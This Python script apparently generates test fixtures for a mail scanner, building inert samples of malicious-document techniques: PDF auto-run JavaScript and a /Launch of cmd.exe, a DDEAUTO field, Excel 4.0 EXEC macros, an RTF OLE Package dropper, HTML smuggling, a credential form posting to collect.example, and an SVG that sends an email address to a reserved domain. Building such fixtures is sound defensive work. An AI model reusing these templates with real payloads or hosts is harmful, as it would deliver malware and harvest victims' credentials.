#!/usr/bin/env python3
"""extract-fixtures.py - build the content-tree fixtures (documents, web
pages, calendars, QR images, legacy encodings) into DIR.

Usage: extract-fixtures.py DIR [--no-marker]

Harmless stand-ins only: every "payload" is a PE stub that carries only the
magic numbers, or the ClamAV test marker of sigs/mailwarden-test.ndb
(assembled here, never stored whole); every domain is reserved (*.example).
Used by tests/unit/extract_test.c (our own extractors) and by
tests/tools/clamav_probe.c, which shows what libclamav itself reports for
the same files (src/extract/README.md).  --no-marker leaves the marker out
of the payload: that is how the fuzz seeds in tests/fuzz/seeds/ were made,
so no file in the repository holds the marker whole.  QR images need `qrencode` and
python3-pil; files that cannot be made are simply missing and the tests
that need them skip.

Files made (all in DIR):
  actions.pdf        /OpenAction JavaScript, a /URI link, a /Launch action,
                     an embedded file payload.exe (the marker in a PE stub)
  objstm.pdf         the /URI action inside a compressed object stream
  external.docx      hyperlink and image with TargetMode="External", a
                     remote attachedTemplate, an OLE object (Ole10Native
                     package payload.exe), an ActiveX control
  macrosheet.xlsm    an Excel 4.0 macro sheet (xl/macrosheets/) and a link
  xlm.xls            BIFF8 workbook with a very hidden Excel 4.0 macro sheet
  external.odt       ODF text with an external link and a remote object
  object.rtf         \\object\\objemb with \\objdata: OLE1 Package payload.exe
  embedded.one       OneNote section with one FileDataStoreObject (payload)
  smuggling.html     Blob + URL.createObjectURL + download of an atob() blob
  dataurl.html       <a download href="data:application/octet-stream;base64,...">
  credform.html      password form posting to another site; meta refresh
  script.svg         SVG with <script>, an onload handler and <foreignObject>
  invite.ics         folded URL/DESCRIPTION/LOCATION links, base64 ATTACH
  uuencode.txt       a text body with an uuencoded payload.exe
  yenc.txt           a yEnc-encoded payload.exe (crc32 set)
  binhex.txt         a BinHex 4.0 payload.exe (RLE and CRCs)
  qr.png qr.jpg qr.gif  a QR code of https://qr-login.example/verify
  qr-inverted.png    the same code, light on dark
  qr-in-photo.jpg    the code small in the corner of a 3000 x 2000 photo (shrunk before reading)
  noqr.png           a picture without a QR code (a grey gradient)
  dde.docx           a DDEAUTO field in word/document.xml
  macro.odt          ODF with a Basic module and a macro bound to document open
  package.ole        the OLE object of external.docx alone (a Package payload.exe)
  plain.zip          a zip that is no document (nothing to report)
"""

import base64
import binascii
import io
import os
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib

MARKER = ("MAILWARDEN-TEST-" + "MARKER-7f3a9c1e").encode()


def pe_stub(extra=b""):
    """64-byte DOS header pointing at a PE signature; no code."""
    h = bytearray(b"MZ" + b"\0" * 62)
    struct.pack_into("<I", h, 0x3C, 0x40)
    return bytes(h) + b"PE\0\0" + b"\0" * 60 + extra


PAYLOAD = pe_stub(b" " + (b"no marker" if "--no-marker" in sys.argv else MARKER) + b" ")


def write(d, name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


# ------------------------------------------------------------------ PDF

def pdf(objects, root=1):
    """A PDF from {num: bytes} objects with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    for num in sorted(objects):
        offs[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    n = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % n
    for i in range(1, n):
        out += b"%010d 00000 n \n" % offs[i] if i in offs else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (n, root, xref)
    return bytes(out)


def stream(dict_body, data):
    return b"<< " + dict_body + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def pdf_actions():
    return pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles 6 0 R >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R 8 0 R] >>",
        4: b"<< /Type /Action /S /JavaScript /JS (app.alert\\('invoice'\\); this.exportDataObject"
           b"\\({cName: 'payload.exe', nLaunch: 2}\\);) >>",
        5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI "
           b"/URI (https://pdf-link.example/login?id=1) >> >>",
        6: b"<< /Names [(payload.exe) 7 0 R] >>",
        7: b"<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 9 0 R >> >>",
        8: b"<< /Type /Annot /Subtype /Link /Rect [0 100 100 200] /A << /S /Launch "
           b"/Win << /F (cmd.exe) /P (/c calc) >> >> >>",
        9: stream(b"/Type /EmbeddedFile", PAYLOAD),
    })


def pdf_objstm():
    """PDF 1.5: the link annotation lives in a FlateDecode object stream."""
    inner = b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://objstm-link.example/x) >> >>"
    header = b"5 0 "
    body = header + inner
    return pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
        4: stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), zlib.compress(body)),
    })


# ------------------------------------------------------------------ OLE2 / CFB

def cfb(streams):
    """A compound file (v3, 512-byte sectors) with streams [(name, bytes)] in the root storage.
    Streams are padded to 4096 bytes so that no mini stream is needed."""
    secs = []  # sector payloads after the header
    fat = []
    entries = []
    nfat = 1
    # sector 0: FAT, sector 1: directory, then streams
    next_sec = 2
    data = bytearray()
    for name, content in streams:
        content = content + b"\0" * max(0, 4096 - len(content))
        n = (len(content) + 511) // 512
        content = content + b"\0" * (n * 512 - len(content))
        entries.append((name, next_sec, len(content)))
        data += content
        next_sec += n
    fat = [0xFFFFFFFD, 0xFFFFFFFE]  # FAT sector, directory (one sector)
    for name, start, size in entries:
        n = size // 512
        for i in range(n):
            fat.append(start + i + 1 if i + 1 < n else 0xFFFFFFFE)
    assert len(fat) <= 128
    fat += [0xFFFFFFFF] * (128 - len(fat))
    hdr = bytearray(512)
    hdr[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", hdr, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIII", hdr, 0x2C, nfat, 1, 0, 0x1000)
    struct.pack_into("<IIII", hdr, 0x3C, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    for i in range(109):
        struct.pack_into("<I", hdr, 0x4C + 4 * i, 0xFFFFFFFF)
    struct.pack_into("<I", hdr, 0x4C, 0)
    assert len(entries) <= 3

    def dirent(name, typ, child, right, start, size):
        e = bytearray(128)
        u = name.encode("utf-16-le")
        e[0:len(u)] = u
        struct.pack_into("<HBB", e, 0x40, len(u) + 2, typ, 1)
        struct.pack_into("<III", e, 0x44, 0xFFFFFFFF, right, child)
        struct.pack_into("<II", e, 0x74, start, size)
        return e

    # siblings: a right-leaning chain in CFB order (shorter names first, then case-insensitive)
    order = sorted(range(len(entries)), key=lambda i: (len(entries[i][0]), entries[i][0].upper()))
    dirsec = bytearray(dirent("Root Entry", 5, order[0] + 1 if order else 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFE, 0))
    rights = {order[k]: order[k + 1] + 1 for k in range(len(order) - 1)}
    for i, (name, start, size) in enumerate(entries):
        dirsec += dirent(name, 2, 0xFFFFFFFF, rights.get(i, 0xFFFFFFFF), start, size)
    dirsec += b"\0" * (512 - len(dirsec))
    fatsec = b"".join(struct.pack("<I", x) for x in fat)
    return bytes(hdr + fatsec + dirsec + data)


def ole10native(label, data):
    """The Ole10Native stream of a Package object: a file with its name."""
    body = struct.pack("<H", 2) + label.encode() + b"\0" + ("C:\\Users\\a\\" + label).encode() + b"\0"
    body += struct.pack("<I", 0x00030000)
    tmp = ("C:\\Temp\\" + label).encode() + b"\0"
    body += struct.pack("<I", len(tmp)) + tmp + struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(body)) + body


def biff(op, data):
    return struct.pack("<HH", op, len(data)) + data


def xls_xlm():
    """BIFF8 workbook: globals with a very hidden Excel 4.0 macro sheet, then that sheet."""
    bof_globals = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206))
    name = b"Macro1"
    sheet = lambda off: biff(0x0085, struct.pack("<IBB", off, 2, 1) + bytes([len(name), 0]) + name)
    eof = biff(0x000A, b"")
    globals_len = len(bof_globals) + len(sheet(0)) + len(eof)
    out = bof_globals + sheet(globals_len) + eof
    out += biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0040, 0x0DBB, 0x07CC, 0, 0x0206))
    # LABEL cell A1 holding the text of an EXEC call (a label, not a real formula)
    text = b'=EXEC("calc.exe")'
    out += biff(0x0204, struct.pack("<HHHH", 0, 0, 0x0F, len(text)) + b"\0" + text)
    out += eof
    return cfb([("Workbook", out)])


# ------------------------------------------------------------------ zip documents

def zbytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_external():
    ct = ('<?xml version="1.0" encoding="UTF-8"?>'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
          'wordprocessingml.document.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">'
            '<Relationship Id="rId1" Type="%s/officeDocument" Target="word/document.xml"/>'
            '</Relationships>' % (RELS_NS, R))
    doc_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">'
                '<Relationship Id="rId2" Type="%s/hyperlink" Target="https://docx-link.example/invoice?id=7"'
                ' TargetMode="External"/>'
                '<Relationship Id="rId3" Type="%s/image" Target="http://docx-track.example/pixel.png"'
                ' TargetMode="External"/>'
                '<Relationship Id="rId4" Type="%s/oleObject" Target="embeddings/oleObject1.bin"/>'
                '<Relationship Id="rId5" Type="%s/control" Target="activeX/activeX1.xml"/>'
                '<Relationship Id="rId6" Type="%s/settings" Target="settings.xml"/>'
                '<Relationship Id="rId7" Type="%s/oleObject" Target="file://///smb-share.example/pub/x.doc"'
                ' TargetMode="External"/>'
                '</Relationships>' % ((RELS_NS,) + (R,) * 6))
    settings_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">'
                     '<Relationship Id="rId1" Type="%s/attachedTemplate"'
                     ' Target="https://templates.example/normal.dotm" TargetMode="External"/>'
                     '</Relationships>' % (RELS_NS, R))
    document = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body>'
                '</w:document>')
    activex = ('<?xml version="1.0" encoding="UTF-8"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/'
               '2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistStorage"/>')
    return zbytes([
        ("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", document),
        ("word/_rels/document.xml.rels", doc_rels), ("word/settings.xml", "<w:settings/>"),
        ("word/_rels/settings.xml.rels", settings_rels),
        ("word/embeddings/oleObject1.bin", cfb([("\x01Ole10Native", ole10native("payload.exe", PAYLOAD))])),
        ("word/activeX/activeX1.xml", activex),
        ("word/activeX/activeX1.bin", cfb([("Contents", b"activex")])),
    ])


def xlsm_macrosheet():
    ct = ('<?xml version="1.0" encoding="UTF-8"?>'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
          '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
          '</Types>')
    wb_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">'
               '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"'
               ' Target="macrosheets/sheet1.xml"/>'
               '<Relationship Id="rId2" Type="%s/externalLinkPath" Target="https://xlsx-link.example/book.xlsx"'
               ' TargetMode="External"/></Relationships>' % (RELS_NS, R))
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/'
             'office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
             '</sheetData></xm:macrosheet>')
    return zbytes([("[Content_Types].xml", ct), ("xl/workbook.xml", "<workbook/>"),
                   ("xl/_rels/workbook.xml.rels", wb_rels), ("xl/macrosheets/sheet1.xml", sheet)])


def odt_external():
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
               'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
               'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
               '<text:p><text:a xlink:type="simple" xlink:href="https://odt-link.example/pay">pay</text:a></text:p>'
               '<draw:frame><draw:object xlink:href="https://odt-object.example/obj" xlink:type="simple"/></draw:frame>'
               '</office:text></office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/'
                'vnd.oasis.opendocument.text"/></manifest:manifest>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        z.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        z.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def docx_dde():
    document = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '
                '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>')
    return zbytes([("[Content_Types].xml", "<Types/>"), ("word/document.xml", document)])


def odt_macro():
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
               'xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:event-listeners>'
               '<script:event-listener script:language="ooo:script" script:event-name="office:load" '
               'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
               '</office:event-listeners></office:scripts><office:body><office:text/></office:body>'
               '</office:document-content>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        z.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        z.writestr("Basic/script-lc.xml", "<library:libraries/>", zipfile.ZIP_DEFLATED)
        z.writestr("Basic/Standard/Module1.xml", "<script:module>Sub Main\nShell(\"calc\")\nEnd Sub</script:module>",
                   zipfile.ZIP_DEFLATED)
    return buf.getvalue()


# ------------------------------------------------------------------ RTF, OneNote

def rtf_object():
    """An OLE1 embedded Package object (the way RTF droppers carry a file)."""
    native = ole10native("payload.exe", PAYLOAD)[4:]  # OLE1 native data without the Ole10Native size
    cls = b"Package\0"
    ole1 = struct.pack("<II", 0x00000501, 2) + struct.pack("<I", len(cls)) + cls
    ole1 += struct.pack("<II", 0, 0) + struct.pack("<I", len(native)) + native
    hexdata = ole1.hex()
    lines = "\n".join(hexdata[i:i + 64] for i in range(0, len(hexdata), 64))
    return ("{\\rtf1\\ansi{\\fonttbl\\f0 Arial;}\\f0 Invoice attached.\\par\n"
            "{\\object\\objemb{\\*\\objclass Package}\\objw1\\objh1{\\*\\objdata\n" + lines + "\n}}\n}\n")


def onenote():
    one_magic = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    fdso = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    return (one_magic + b"\0" * 240 + fdso + struct.pack("<QIQ", len(PAYLOAD), 0, 0) + PAYLOAD +
            b"\0" * (8 - len(PAYLOAD) % 8) + b"\0" * 64)


# ------------------------------------------------------------------ web, calendar

def smuggling_html():
    blob = base64.b64encode(zbytes([("invoice.js", "WScript.Echo('x');\n" * 40)])).decode()
    return ("<!doctype html><html><body><p>Your document is downloading...</p><script>\n"
            "var b64 = '" + blob + "';\n"
            "var bin = atob(b64); var a = new Uint8Array(bin.length);\n"
            "for (var i = 0; i < bin.length; i++) a[i] = bin.charCodeAt(i);\n"
            "var blob = new Blob([a], {type: 'application/octet-stream'});\n"
            "var l = document.createElement('a'); l.href = URL.createObjectURL(blob);\n"
            "l.download = 'invoice.zip'; document.body.appendChild(l); l.click();\n"
            "if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(blob, 'invoice.zip');\n"
            "</script></body></html>\n")


def dataurl_html():
    return ('<html><body><a id="d" download="scan.exe" href="data:application/octet-stream;base64,' +
            base64.b64encode(PAYLOAD).decode() + '">Download your scan</a></body></html>\n')


def credform_html():
    return ('<html><head><meta http-equiv="refresh" content="5; url=https://refresh.example/next"></head>'
            '<body><h1>Mailbox quota exceeded</h1>'
            '<form method="post" action="https://collect.example/login.php">'
            '<input type="email" name="u"><input type="password" name="p">'
            '<input type="submit" value="Sign in"></form></body></html>\n')


def script_svg():
    return ('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
            'xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="go()">'
            '<script type="text/javascript"><![CDATA[function go(){window.location="https://svg-redirect.example/'
            '#"+btoa("user@example.com");}]]></script>'
            '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">'
            '<iframe src="https://svg-frame.example/"></iframe></body></foreignObject>'
            '<a xlink:href="https://svg-link.example/"><text y="20">Open</text></a></svg>\n')


def fold(line):
    """RFC 5545 3.1: lines of at most 75 octets, continued with CRLF + space."""
    out, raw = [], line.encode()
    while len(raw) > 75:
        out.append(raw[:75])
        raw = raw[75:]
    out.append(raw)
    return b"\r\n ".join(out) + b"\r\n"


def invite_ics():
    att = base64.b64encode(PAYLOAD).decode()
    lines = [
        "BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Mailwarden tests//EN", "METHOD:REQUEST",
        "BEGIN:VEVENT", "UID:1@tests.example", "DTSTART:20260601T010000Z", "SUMMARY:Quarterly review",
        "DESCRIPTION:Join here: https://meet-link.example/j/123456789?pwd=abcdefghijklmnopqrstuvwxyz "
        "or call in\\, see https://ics-desc.example/agenda",
        "LOCATION:https://ics-location.example/room",
        "URL:https://ics-url.example/event",
        "ATTACH;FMTTYPE=application/octet-stream;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=agenda.exe:" + att,
        "ATTACH:https://ics-attach.example/agenda.pdf",
        "END:VEVENT", "END:VCALENDAR",
    ]
    return b"".join(fold(l) for l in lines)


# ------------------------------------------------------------------ legacy encodings

def uuencode(name, data):
    out = "begin 644 %s\n" % name
    for i in range(0, len(data), 45):
        out += binascii.b2a_uu(data[i:i + 45], backtick=True).decode("ascii")
    return out + "`\nend\n"


def yenc(name, data):
    enc = bytearray()
    col = 0
    for b in data:
        c = (b + 42) & 0xff
        if c in (0, 10, 13, 61) or (col == 0 and c in (9, 32, 46)):
            enc += b"=" + bytes([(c + 64) & 0xff])
            col += 2
        else:
            enc.append(c)
            col += 1
        if col >= 128:
            enc += b"\r\n"
            col = 0
    crc = zlib.crc32(data) & 0xffffffff
    return (b"=ybegin line=128 size=%d name=%s\r\n" % (len(data), name.encode()) + bytes(enc) +
            b"\r\n=yend size=%d crc32=%08x\r\n" % (len(data), crc))


def binhex(name, data):
    n = name.encode()
    hdr = bytes([len(n)]) + n + b"\0" + b"APPL" + b"????" + b"\0\0" + struct.pack(">II", len(data), 0)
    # CRC-16/XMODEM, as Python's old binhex module and the BinHex 4.0 readers compute it
    raw = hdr + struct.pack(">H", binascii.crc_hqx(hdr, 0))
    raw += data + struct.pack(">H", binascii.crc_hqx(data, 0))
    raw += struct.pack(">H", binascii.crc_hqx(b"", 0))  # empty resource fork
    # RLE: 0x90 is escaped as 0x90 0x00; runs of 4+ as byte 0x90 count
    rle = bytearray()
    i = 0
    while i < len(raw):
        b = raw[i]
        j = i
        while j < len(raw) and raw[j] == b and j - i < 255:
            j += 1
        run = j - i
        if b == 0x90:
            rle += b"\x90\x00"
            i += 1
        elif run >= 4:
            rle += bytes([b, 0x90, run])
            i = j
        else:
            rle.append(b)
            i += 1
    alphabet = "!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
    bits, nbits, out = 0, 0, []
    for b in rle:
        bits = (bits << 8) | b
        nbits += 8
        while nbits >= 6:
            nbits -= 6
            out.append(alphabet[(bits >> nbits) & 63])
    if nbits:
        out.append(alphabet[(bits << (6 - nbits)) & 63])
    text = ":" + "".join(out) + ":"
    lines = [text[i:i + 64] for i in range(0, len(text), 64)]
    return "(This file must be converted with BinHex 4.0)\n" + "\n".join(lines) + "\n"


def text_with(kind):
    intro = "Hello,\n\nplease find the file below.\n\n"
    if kind == "uu":
        return intro + uuencode("payload.exe", PAYLOAD) + "\nRegards\n"
    if kind == "yenc":
        return intro.encode() + yenc("payload.exe", PAYLOAD) + b"\nRegards\n"
    return intro + binhex("payload.exe", PAYLOAD) + "\nRegards\n"


# ------------------------------------------------------------------ QR

QR_URL = "https://qr-login.example/verify?u=1"


def qr_images(d):
    if shutil.which("qrencode") is None:
        return
    png = os.path.join(d, "qr.png")
    subprocess.run(["qrencode", "-s", "6", "-m", "4", "-o", png, QR_URL], check=True)
    try:
        from PIL import Image
    except ImportError:
        return
    im = Image.open(png).convert("RGB")
    im.save(os.path.join(d, "qr.jpg"), quality=90)
    im.convert("P").save(os.path.join(d, "qr.gif"))
    from PIL import ImageOps
    ImageOps.invert(im).save(os.path.join(d, "qr-inverted.png"))
    photo = Image.merge("RGB", [Image.effect_noise((3000, 2000), 40), Image.linear_gradient("L").resize((3000, 2000)),
                                Image.radial_gradient("L").resize((3000, 2000))])
    photo.paste(im, (2600, 1600))
    photo.save(os.path.join(d, "qr-in-photo.jpg"), quality=90)
    grad = Image.new("L", (120, 80))
    grad.putdata([(x * 2 + y) % 256 for y in range(80) for x in range(120)])
    grad.save(os.path.join(d, "noqr.png"))


def main():
    d = sys.argv[1]
    os.makedirs(d, exist_ok=True)
    write(d, "actions.pdf", pdf_actions())
    write(d, "objstm.pdf", pdf_objstm())
    write(d, "external.docx", docx_external())
    write(d, "package.ole", cfb([("\x01Ole10Native", ole10native("payload.exe", PAYLOAD))]))
    write(d, "plain.zip", zbytes([("minutes.txt", "Minutes of the meeting.\n"), ("data.csv", "a,b\n1,2\n")]))
    write(d, "macrosheet.xlsm", xlsm_macrosheet())
    write(d, "xlm.xls", xls_xlm())
    write(d, "external.odt", odt_external())
    write(d, "dde.docx", docx_dde())
    write(d, "macro.odt", odt_macro())
    write(d, "object.rtf", rtf_object())
    write(d, "embedded.one", onenote())
    write(d, "smuggling.html", smuggling_html())
    write(d, "dataurl.html", dataurl_html())
    write(d, "credform.html", credform_html())
    write(d, "script.svg", script_svg())
    write(d, "invite.ics", invite_ics())
    write(d, "uuencode.txt", text_with("uu"))
    write(d, "yenc.txt", text_with("yenc"))
    write(d, "binhex.txt", text_with("binhex"))
    qr_images(d)


if __name__ == "__main__":
    main()
